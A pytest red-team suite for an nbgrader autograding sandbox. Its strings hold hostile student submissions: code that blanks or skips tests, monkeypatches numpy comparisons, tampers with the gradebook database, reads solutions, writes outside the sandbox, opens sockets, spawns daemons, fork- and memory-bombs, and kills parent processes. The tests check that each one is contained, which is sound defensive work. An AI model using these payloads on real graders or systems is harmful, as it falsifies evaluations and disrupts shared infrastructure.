"""Red team: cheating, crashing and mangled submissions under real ``nbgrader autograde``.

Every submission below misbehaves on purpose, on three assignments (w1a1, w1a2, w3a1).  Each
must end with no unearned points, its honest parts graded, a clear recorded reason, nothing
written outside its sandbox, no connection made and no process left behind.  Honest
submissions that print warnings or write to stderr keep full marks.

Two scratch courses are graded concurrently (short per-cell and hidden-check limits), each
with nbgrader's own command line, exactly as an instructor runs it.  The attacks' code is in
``ATTACKS``: a prelude that runs at the top of a solution cell, a replacement function, or a
change to the notebook file itself.
"""
from __future__ import annotations

import copy
import hashlib
import os
import socket
import subprocess
import threading
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
import pytest

from grading import notebook as nbu
from grading import sandbox as sb
from grading.course import make_course
from grading.mutation import registry

W1A1, W1A2, W3A1 = "w1a1_conv_step_by_step", "w1a2_conv_application", "w3a1_yolo"
CELL_SECONDS = 20
MARK = f"redteam-{uuid.uuid4().hex[:8]}"       # in the command line of every process an attack starts


# ----------------------------------------------------------------------------- attack code
def _body(code: str, statement: str) -> str:
    """``code`` (a function with a docstring) with ``statement`` as the first line of its body."""
    head, sep, rest = code.partition('"""\n')
    doc, sep2, tail = rest.partition('"""\n')
    lines = "\n".join("    " + ln for ln in statement.strip("\n").splitlines())
    return head + sep + doc + sep2 + lines + "\n" + tail


TRANSFORMER = '''
def _blank_tests(lines):
    text = "".join(lines)
    return [] if ("_test(" in text or "assert" in text or "check_" in text) else lines
get_ipython().input_transformers_cleanup.append(_blank_tests)
'''
PATCH_NUMPY = '''
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
'''
SWALLOW_ERRORS = '''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
'''
SKIP_ASSERTS = '''
import linecache, sys
def _skip_asserts(frame, event, arg):
    name = frame.f_code.co_filename
    if "ipykernel_" not in name and "public_tests" not in name:
        return None                       # trace the notebook's cells and the public tests only
    if event == "line":
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith(("assert", "raise", "np.testing")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _skip_asserts
sys.settrace(_skip_asserts)
'''
IMPORT_HOOK = '''
import importlib.machinery, sys, types
class _Harmless:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("grading", "public_tests", "nbgrader"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__path__ = []
        module.__getattr__ = lambda attr: (lambda *a, **k: None)
        return module
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, _Harmless())
for _name in [n for n in sys.modules if n.split(".")[0] in ("grading", "public_tests")]:
    del sys.modules[_name]
'''
ONCE = '''import os, sys
if not os.path.exists("looped-once") or "grading.rpc" in sys.modules:   # the kernel loops once (to keep
    open("looped-once", "w").close()                                       # the test short), the checks always
'''
ALWAYS_EQUAL = '''
class _Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __array__(self, *a, **k):
        import numpy as np
        return np.zeros(1)
'''
TAMPER_GRADEBOOK = '''
import glob, sqlite3, pathlib, cnnkit
for _p in (glob.glob("../../../gradebook.db") + glob.glob("../../../*/gradebook.db")
           + [str(pathlib.Path(cnnkit.__file__).resolve().parents[1] / "gradebook.db")]):
    try:
        _db = sqlite3.connect(_p)
        _db.execute("UPDATE grade SET manual_score = 100")
        _db.commit()
        print("TAMPERED", _p)
    except Exception as _err:
        print("blocked", type(_err).__name__)
'''
STEAL = '''
import json, pathlib, cnnkit
for _root in (pathlib.Path("../../..").resolve(), pathlib.Path(cnnkit.__file__).resolve().parents[1]):
    for _p in list(_root.glob("solutions/*/*.ipynb")) + list(_root.glob("source/*/*.ipynb")) \\
            + list(_root.glob("grading/**/*.py")) + list(_root.glob("autograded/*/*/*.ipynb")):
        if _p.parent.resolve() == pathlib.Path.cwd().resolve():
            continue                       # its own notebook, in its own scratch folder
        try:
            if "BEGIN SOLUTION" in _p.read_text() or "def " in _p.read_text():
                print("STOLE", _p)
        except OSError:
            pass
'''
WRITE_AROUND = '''
import pathlib, cnnkit
_repo = pathlib.Path(cnnkit.__file__).resolve().parents[1]
_course = pathlib.Path("../../..").resolve()
for _t in [_repo / "cnnkit" / "__init__.py", _repo / "solutions" / "x.txt", _repo / "grading" / "x.py",
           _repo / "datasets" / "MANIFEST.json", _repo / "nbgrader_config.py", _course / "nbgrader_config.py",
           _course / "notebooks" / "x.txt", _course / "autograded" / "x.txt", pathlib.Path("/root/x.txt")]:
    try:
        with open(_t, "a") as _f:
            _f.write("# tampered")
        print("WROTE", _t)
    except OSError:
        pass
'''


def NETWORK(port: int) -> str:
    return f'''
import socket, urllib.request
for _target in (("127.0.0.1", {port}), ("10.0.2.2", {port})):
    try:
        socket.create_connection(_target, timeout=2).sendall(b"leak")
        print("CONNECTED", _target)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://pypi.org", timeout=3)
    print("CONNECTED pypi")
except Exception:
    pass
'''


DAEMON = f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", "{MARK}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


# ----------------------------------------------------------------------------- the plan
@dataclass
class Attack:
    student: str
    assignment: str
    expect: dict                    # function -> True (full marks) / False (zero); others: full marks
    code: dict = field(default_factory=dict)          # function -> code for its solution cell
    reason: str = ""                # words the graded notebook must show ("a|b": either)
    quick: bool = False
    mangle: Callable | None = None  # (course, student, assignment) -> writes the submission itself


def _mutant(assignment: str, fn: str) -> str:
    return registry(assignment).mutants(fn)[0].cell_source()


def _plan(correct: dict, port: int) -> list[Attack]:
    c1, c2 = correct[W1A1], correct[W1A2]
    wrong = lambda fn, a=W1A1: _mutant(a, fn)  # noqa: E731
    A = Attack
    plan = [
        # earning points it did not
        A("input-transformer", W1A1, {"zero_pad": False}, {"zero_pad": TRANSFORMER + wrong("zero_pad")}, "check_zero_pad"),
        A("patched-numpy", W1A1, {"conv_single_step": False},
          {"conv_single_step": PATCH_NUMPY + wrong("conv_single_step")}, "check_conv_single_step"),
        A("swallowed-errors", W1A1, {"conv_forward": False},
          {"conv_forward": SWALLOW_ERRORS + wrong("conv_forward")}, "check_conv_forward"),
        A("always-equal", W1A1, {"create_mask_from_window": False},
          {"create_mask_from_window": ALWAYS_EQUAL + "\ndef create_mask_from_window(x):\n    return _Yes()\n"},
          "check_create_mask_from_window"),
        A("settrace", W1A1, {"pool_forward": False}, {"pool_forward": SKIP_ASSERTS + wrong("pool_forward")},
          "check_pool_forward"),
        A("import-hook", W1A1, {"distribute_value": False},
          {"distribute_value": IMPORT_HOOK + wrong("distribute_value")}, "check_distribute_value"),
        A("gradebook-tamper", W1A1, {}, {"zero_pad": TAMPER_GRADEBOOK + c1["zero_pad"]}),
        A("steal-solutions", W1A1, {}, {"zero_pad": STEAL + c1["zero_pad"]}),
        A("write-outside", W1A1, {}, {"zero_pad": WRITE_AROUND + c1["zero_pad"]}),
        A("network", W1A1, {}, {"zero_pad": NETWORK(port) + c1["zero_pad"]}),
        A("daemon", W1A1, {}, {"zero_pad": DAEMON + c1["zero_pad"]}),
        # losing the whole grade
        # losing the whole grade (in functions no other exercise calls: a kernel killed in a helper's cell
        # also kills the public test of every exercise that calls that helper)
        A("os-exit", W1A1, {"pool_forward": False},
          {"pool_forward": _body(c1["pool_forward"], "import os; os._exit(1)")}, "kernel died"),
        A("segfault", W1A1, {"pool_backward": False},
          {"pool_backward": _body(c1["pool_backward"], "import ctypes; ctypes.string_at(0)")}, "kernel died"),
        A("sigkill-self", W1A1, {"conv_backward": False},
          {"conv_backward": _body(c1["conv_backward"], "import os; os.kill(os.getpid(), 9)")}, "kernel died"),
        A("kill-the-sandbox", W1A1, {"pool_backward": False},
          {"pool_backward": _body(c1["pool_backward"], "import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)")},
          "kernel died"),
        A("memory-bomb", W1A1, {"conv_backward": False},
          {"conv_backward": _body(c1["conv_backward"], "import numpy as np\nhog = []\nwhile True:\n"
                                  "    hog.append(np.ones(1 << 28, dtype=np.uint8))")},
          "kernel died|time limit"),   # killed at the cap, or, where memory fills slowly, stopped by the clock
        A("fork-bomb", W1A1, {"create_mask_from_window": False},
          {"create_mask_from_window": _body(c1["create_mask_from_window"], (
              "import subprocess, sys\nkids = []\nwhile True:\n    kids.append(subprocess.Popen("
              f"[sys.executable, '-c', 'import time; time.sleep(20)', '{MARK}']))"))}, "resource"),
        A("infinite-loop", W1A1, {"pool_forward": False},
          {"pool_forward": _body(c1["pool_forward"], ONCE + "    while True:\n        pass")}, "interrupted"),
        A("deaf-loop", W1A1, {"pool_forward": False},
          {"pool_forward": _body(c1["pool_forward"], ONCE + "    import time\n    while True:\n        try:\n"
                                 "            time.sleep(0.1)\n        except KeyboardInterrupt:\n            pass")},
          "ignored the interrupt"),
        A("dies-while-defined", W1A1, {"conv_backward": False},
          {"conv_backward": "import os\nclass _Boom:\n    os._exit(1)\n" + c1["conv_backward"]}, "kernel died"),
        # honest, but noisy
        A("honest-noisy", W1A1, {}, {fn: _body(code, "import sys, warnings\nwarnings.warn('a student warning')\n"
                                               "print('debugging', file=sys.stderr)") for fn, code in c1.items()}),
        # mangled files
        A("invalid-json", W1A1, {fn: False for fn in c1}, mangle=lambda c, s, a: _write(c, s, a, '{"cells": [ oops'),
          reason="could not be read as a notebook"),
        A("renamed", W1A1, {}, mangle=lambda c, s, a: _renamed(c, s, a, c1), reason="was named"),
        A("hundred-points", W1A1, {}, mangle=lambda c, s, a: _edited(c, s, a, c1, _hundred_points)),
        A("shuffled-deleted-retyped", W1A1, {}, mangle=lambda c, s, a: _edited(c, s, a, c1, _shuffle_delete_retype),
          reason="out of order"),
        A("duplicated-old-huge", W1A1, {}, mangle=lambda c, s, a: _old_duplicated_huge(c, s, a, c1),
          reason="nbformat 3"),
        A("edited-tests", W1A1, {}, mangle=lambda c, s, a: _edited(c, s, a, c1, _pass_tests)),
        # other assignments
        A("w1a2-transformer", W1A2, {"happyModel": False}, {"happyModel": TRANSFORMER + _mutant(W1A2, "happyModel")},
          "check_happymodel", quick=True),
        A("w1a2-crash", W1A2, {"convolutional_model": False},
          {"convolutional_model": _body(c2["convolutional_model"], "import os; os._exit(1)")}, "kernel died", quick=True),
        A("w3a1-always-equal", W3A1, {"iou": False},
          {"iou": ALWAYS_EQUAL + "\ndef iou(box1, box2):\n    return _Yes()\n"}, "check_iou", quick=True),
        A("w3a1-import-hook", W3A1, {"yolo_filter_boxes": False},
          {"yolo_filter_boxes": IMPORT_HOOK + PATCH_NUMPY + _mutant(W3A1, "yolo_filter_boxes")},
          "check_yolo_filter_boxes", quick=True),
    ]
    return plan


def _write(course, student, assignment, text: str):
    path = course.submitted(student, assignment)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def _solved(course, assignment, correct):
    return nbu.fill(nbu.read(course.release_notebook(assignment)), correct)


def _renamed(course, student, assignment, correct):
    path = course.submit(student, assignment, _solved(course, assignment, correct))
    path.rename(path.with_name("Copy of my work.ipynb"))


def _edited(course, student, assignment, correct, change):
    nb = _solved(course, assignment, correct)
    change(nb)
    course.submit(student, assignment, nb)


def _hundred_points(nb):
    for cell in nb.cells:
        if nbu.is_grade(cell):
            cell.metadata["nbgrader"]["points"] = 100
            cell.metadata["nbgrader"]["schema_version"] = 1     # stock nbgrader stops the whole run on this


def _shuffle_delete_retype(nb):
    graded = [i for i, c in enumerate(nb.cells) if nbu.meta(c).get("grade_id")]
    a, b = graded[3], graded[6]
    nb.cells[a], nb.cells[b] = nb.cells[b], nb.cells[a]
    test = next(c for c in nb.cells if nbu.meta(c).get("grade_id") == "zero_pad_pads_spatial_axes_only")
    nb.cells.remove(test)
    k = next(i for i, c in enumerate(nb.cells) if nbu.meta(c).get("grade_id") == "conv_forward_solution")
    old = nb.cells[k]
    nb.cells[k] = nbformat.v4.new_raw_cell(old.source, metadata=dict(old.metadata), id=old.id)


def _pass_tests(nb):
    for cell in nb.cells:
        if nbu.is_grade(cell):
            cell.source = "pass  # the student replaced the test"


def _old_duplicated_huge(course, student, assignment, correct):
    nb = _solved(course, assignment, correct)
    k = next(i for i, c in enumerate(nb.cells) if nbu.meta(c).get("grade_id") == "zero_pad_solution")
    dup = copy.deepcopy(nb.cells[k])
    dup.id = "dup"
    nb.cells.insert(k + 1, dup)
    first = next(c for c in nb.cells if c.cell_type == "code")
    first.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * (21 << 20))]
    path = course.submitted(student, assignment)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nbformat.writes(nbformat.convert(nb, 3), version=3))


# ----------------------------------------------------------------------------- grading them
class _Listener:
    """A TCP server outside the sandboxes that counts who reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self.running = False
        self.thread.join(timeout=5)
        self.sock.close()


def _digest(paths) -> dict:
    out = {}
    for root in paths:
        root = Path(root)
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts)
        for p in files:
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="module")
def red_team(tmp_path_factory):
    try:
        sb.check()
    except sb.SandboxUnavailable as err:
        pytest.fail(f"the red team needs the grading sandbox: {err}")
    repo = nbu.repo_root()
    base = tmp_path_factory.mktemp("redteam")
    extra = f"c.Execute.timeout = {CELL_SECONDS}\nc.RunHiddenChecks.check_timeout = {3 * CELL_SECONDS}"
    assignments = [W1A1, W1A2, W3A1]
    courses = [make_course(base / f"c{k}", assignments, extra_config=extra) for k in range(2)]
    with ThreadPoolExecutor(2) as pool:
        list(pool.map(lambda c: c.generate(), courses))
    correct = {a: courses[0].correct_code(a) for a in assignments}
    listener = _Listener()
    plan = _plan(correct, listener.port)
    home = {}
    for k, attack in enumerate(plan):
        course = courses[k % 2]
        home[attack.student] = course
        if attack.mangle is not None:
            attack.mangle(course, attack.student, attack.assignment)
        else:
            course.submit_filled(attack.student, attack.assignment, {**correct[attack.assignment], **attack.code})
    watched = [repo / d for d in ("cnnkit/__init__.py", "public_tests/__init__.py", "grading/__init__.py",
                                  "datasets/synthetic", "nbgrader_config.py")]
    watched += [repo / folder / a for folder in ("solutions", "notebooks") for a in assignments]
    before = _digest(watched + [c.root / "solutions" for c in courses] + [c.root / "nbgrader_config.py" for c in courses])

    def grade(course):
        for a in assignments:
            course.autograde(a, quick=a != W1A1)

    os.environ[sb.MEMORY_ENV] = "3072"   # a smaller cap than the default: the memory bomb meets it sooner

    try:
        with ThreadPoolExecutor(2) as pool:
            list(pool.map(grade, courses))
    finally:
        listener.close()
        os.environ.pop(sb.MEMORY_ENV, None)
        for k, c in enumerate(courses):
            print(f"red team course {k}: " + ", ".join(f"{key} {t:.0f} s" for key, t in c.timings.items()))
    after = _digest(watched + [c.root / "solutions" for c in courses] + [c.root / "nbgrader_config.py" for c in courses])
    leftovers = subprocess.run(["pgrep", "-af", MARK], capture_output=True, text=True).stdout.strip()
    subprocess.run(["pkill", "-9", "-f", MARK], capture_output=True)
    return {"plan": plan, "home": home, "correct": correct, "connections": listener.connections,
            "changed": sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k)),
            "leftovers": leftovers}


def _scores(course, assignment, student):
    scores = course.scores(assignment, student)
    cells = nbu.grade_cells(nbu.read(course.source_notebook(assignment)))
    return {c.function: scores[c.grade_id] for c in cells}


def _graded_text(course, assignment, student) -> str:
    nb = nbu.read(course.autograded(student, assignment))
    parts = []
    for cell in nb.cells:
        parts.append(cell.source)
        for out in cell.get("outputs", []):
            parts += [out.get("text", ""), out.get("ename", ""), out.get("evalue", ""), *out.get("traceback", [])]
    return "\n".join(str(p) for p in parts)


def test_the_red_team_is_big_enough(red_team):
    plan = red_team["plan"]
    assert len(plan) >= 25 and len({a.assignment for a in plan}) >= 3


def test_every_submission_gets_exactly_the_points_it_earned(red_team):
    bad = []
    for attack in red_team["plan"]:
        course = red_team["home"][attack.student]
        try:
            got = _scores(course, attack.assignment, attack.student)
        except Exception as err:  # noqa: BLE001 - no grade record at all is a failure too
            bad.append(f"{attack.student}: no grade record ({type(err).__name__}: {err})")
            continue
        for fn, (score, maximum) in got.items():
            full = attack.expect.get(fn, True)
            if score > maximum:
                bad.append(f"{attack.student}: {fn} scored {score:g} of {maximum:g}")
            elif full and score != maximum:
                bad.append(f"{attack.student}: {fn} {score:g}/{maximum:g}, the honest part lost points")
            elif not full and score != 0:
                bad.append(f"{attack.student}: {fn} {score:g}/{maximum:g}, unearned points")
    assert bad == [], "\n".join(bad)


def test_every_lost_exercise_says_why(red_team):
    bad = []
    for attack in red_team["plan"]:
        if attack.reason:
            text = _graded_text(red_team["home"][attack.student], attack.assignment, attack.student).lower()
            if not any(words in text for words in attack.reason.lower().split("|")):
                bad.append(f"{attack.student}: the graded notebook does not say {attack.reason!r}")
    assert bad == [], "\n".join(bad)


def test_nothing_leaks_out_of_the_sandbox(red_team):
    leaks = []
    for attack in red_team["plan"]:
        text = _graded_text(red_team["home"][attack.student], attack.assignment, attack.student)
        leaks += [f"{attack.student}: {line.strip()[:160]}" for line in text.splitlines()
                  if line.startswith(("TAMPERED", "STOLE", "WROTE", "CONNECTED"))]
    assert leaks == [], "\n".join(leaks)
    assert red_team["connections"] == 0, "a sandboxed process reached a server outside"
    assert red_team["changed"] == [], f"files outside the sandboxes changed: {red_team['changed']}"
    assert red_team["leftovers"] == "", f"processes outlived grading:\n{red_team['leftovers']}"


def test_the_gradebook_holds_no_manual_scores(red_team):
    from nbgrader.api import Gradebook

    for course in {id(c): c for c in red_team["home"].values()}.values():
        with Gradebook(f"sqlite:///{course.root / 'gradebook.db'}", course_id="cnn-course") as gb:
            for assignment in course.assignments:
                for sub in gb.assignment_submissions(assignment):
                    for nb in sub.notebooks:
                        assert all(g.manual_score is None for g in nb.grades), sub.student.id


def test_grading_the_same_submissions_again_gives_the_same_scores(red_team):
    """Determinism: a second autograde of a few submissions reproduces their scores exactly."""
    course = red_team["home"]["honest-noisy"]
    students = [a.student for a in red_team["plan"] if red_team["home"][a.student] is course
                and a.assignment == W1A1][:2]
    first = {s: _scores(course, W1A1, s) for s in students}
    for s in students:
        course.autograde(W1A1, student=s)
    assert {s: _scores(course, W1A1, s) for s in students} == first
